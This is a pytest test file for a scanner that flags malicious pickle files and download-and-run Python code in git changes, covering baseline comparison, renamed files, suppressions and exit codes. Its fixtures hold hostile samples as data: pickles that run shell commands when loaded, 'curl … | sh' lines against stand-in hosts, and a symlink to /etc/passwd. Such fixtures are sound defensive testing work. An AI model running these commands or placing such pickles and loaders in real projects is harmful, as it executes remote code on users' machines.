"""What is new and what the base had already, from a real repository to the exit code."""

import hashlib
from pathlib import Path

import pytest

from scanner import pipeline
from scanner.config import build
from scanner.finding import Severity
from scanner.report import Scan, annotations, sarif, summary, text
from tests.recipes.git import clone, commit, git, new

BAD = b"cposix\nsystem\n(S'echo poisoned'\ntR."
WORSE = b"cposix\nsystem\n(S'echo poisoned'\ntR0cposix\nsystem\n(S'echo again'\ntR."
SCRIPT = b"import os\n\nos.system('curl https://collector.example/x | sh')\n"


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    place = new(tmp_path / "repo")
    monkeypatch.chdir(place)
    return place


def scan(base: str, head: str = "HEAD", **options: object) -> Scan:
    return pipeline.scan(build(base=base, head=head, **options))  # type: ignore[arg-type]


def known(result: Scan) -> dict[str, list[str | None]]:
    return {r.path: [f.existing for f in r.findings if f.severity is Severity.ERROR] for r in result.reports}


def test_only_what_the_change_brings_is_new(repo: Path) -> None:
    base = commit(repo, {"a.pkl": BAD, "s.py": SCRIPT, "b.pkl": b"N."})
    commit(repo, {"a.pkl": WORSE, "s.py": b"# a line more\n" + SCRIPT, "b.pkl": BAD, "c.pkl": BAD})
    result = scan(base)
    assert sorted(map(str, known(result).pop("a.pkl"))) == ["None", "a.pkl"]
    assert known(result) | {"a.pkl": []} == {"a.pkl": [], "b.pkl": [None], "c.pkl": [None], "s.py": ["s.py"]}
    assert result.exit_code == 1
    assert "already in the base" in text.render(result)
    assert "already in the base" in summary.render(result)
    assert annotations.render(result).count("base version of the file has it") == 2


def test_what_is_not_new_can_be_spared(repo: Path) -> None:
    base = commit(repo, {"a.pkl": BAD})
    commit(repo, {"a.pkl": BAD + b"trailing"})
    assert scan(base).exit_code == 1
    result = scan(base, fail_on_existing="false")
    assert result.exit_code == 0
    assert result.decision == "passes: what is at or above error is set not to fail"
    commit(repo, {"a.pkl": WORSE})
    assert scan(base, fail_on_existing="false").exit_code == 1


def test_a_file_that_moves_is_known_and_counts(repo: Path) -> None:
    base = commit(repo, {"tests/bad.pkl": BAD})
    git(repo, "mv", "tests/bad.pkl", "production.pkl")
    commit(repo)
    result = scan(base, fail_on_existing="false")
    assert known(result) == {"production.pkl": ["tests/bad.pkl"]}
    assert result.exit_code == 1


def test_in_a_scan_of_everything_what_is_untouched_is_known(repo: Path) -> None:
    base = commit(repo, {"old.pkl": BAD})
    commit(repo, {"new.pkl": BAD})
    assert known(scan(base, whole=True)) == {"old.pkl": ["old.pkl"], "new.pkl": [None]}


def test_the_version_of_the_base_reaches_a_checkout_at_depth_1(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    base = commit(repo, {"a.pkl": BAD})
    commit(repo, {"a.pkl": BAD + b"trailing"})
    monkeypatch.chdir(clone(repo, tmp_path / "ci"))
    assert known(scan(base)) == {"a.pkl": ["a.pkl"]}


def test_where_the_version_of_the_base_cannot_be_had_all_counts_as_new(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    base = commit(repo, {"a.pkl": BAD})
    commit(repo, {"a.pkl": BAD + b"trailing"})

    def fail(*_: object) -> int:
        raise OSError("nowhere")

    monkeypatch.setattr("scanner.collect.repository.Repository.fetched", fail)
    assert known(scan(base)) == {"a.pkl": [None]}


def test_a_link_before_is_no_version_of_a_file(repo: Path) -> None:
    (repo / "a.pkl").symlink_to("/etc/passwd")
    base = commit(repo)
    (repo / "a.pkl").unlink()
    commit(repo, {"a.pkl": BAD})
    assert known(scan(base)) == {"a.pkl": [None]}


def test_a_suppression_of_the_base_counts_and_one_of_the_change_does_not(repo: Path) -> None:
    entry = f"""
[[suppress]]
rule = "command-on-load"
path = "a.pkl"
sha256 = "{hashlib.sha256(BAD).hexdigest()}"
reason = "a fixture"
expires = 9999-12-31
"""
    base = commit(repo, {"x": b""})
    commit(repo, {"a.pkl": BAD, "modelgate.toml": entry.encode()})
    result = scan(base)
    assert result.exit_code == 1
    assert any("what the base says applies" in notice.message for notice in result.notices)
    git(repo, "reset", "--quiet", "--hard", base)
    base = commit(repo, {"modelgate.toml": entry.encode()})
    commit(repo, {"a.pkl": BAD})
    result = scan(base)
    assert result.exit_code == 0
    assert [item.finding.site.path for item in result.accepted] == ["a.pkl"]
    assert "accepted: command-on-load at a.pkl" in text.render(result)
    assert "a fixture" in summary.render(result)
    assert "command-on-load" not in str(sarif.render(result).partition('"results"')[2])
    commit(repo, {"a.pkl": WORSE})
    result = scan(base)
    assert result.exit_code == 1
    assert any("is for other content" in notice.message for notice in result.notices)


def test_a_file_that_moves_and_changes_is_a_new_one(repo: Path) -> None:
    """How like two files have to be is a guess, and the attacker's to shape."""
    base = commit(repo, {"tests/bad.pkl": BAD + bytes(4000)})
    git(repo, "mv", "tests/bad.pkl", "production.pkl")
    commit(repo, {"production.pkl": BAD + bytes(4000) + b"x"})
    result = scan(base, fail_on_existing="false")
    assert set(known(result)["production.pkl"]) == {None}
    assert result.exit_code == 1


HELPER = b"import os\ndef fetch(url):\n    os.system('curl ' + url + ' | sh')\n"


def test_a_helper_that_alone_is_changed(repo: Path) -> None:
    """It only defines something; the loader that calls it is as it was."""
    loader = b"from .tools.helper import fetch\nfetch('https://data.example/x')\n"
    files = {"corpus/loader.py": loader, "corpus/tools/__init__.py": b"", "readme": b""}
    base = commit(repo, {**files, "corpus/tools/helper.py": b"def fetch(url):\n    return url\n"})
    commit(repo, {"corpus/tools/helper.py": HELPER})
    (report,) = scan(base).reports
    (finding,) = [finding for finding in report.findings if finding.severity is Severity.ERROR]
    assert (report.path, finding.rule, finding.existing) == (
        "corpus/tools/helper.py",
        "download-and-run",
        None,
    )
    assert "corpus/loader.py" in {step.site.path for step in finding.steps}
    commit(repo, {"corpus/loader.py": b"VERSION = 1\n"})
    assert scan(base).exit_code == 0
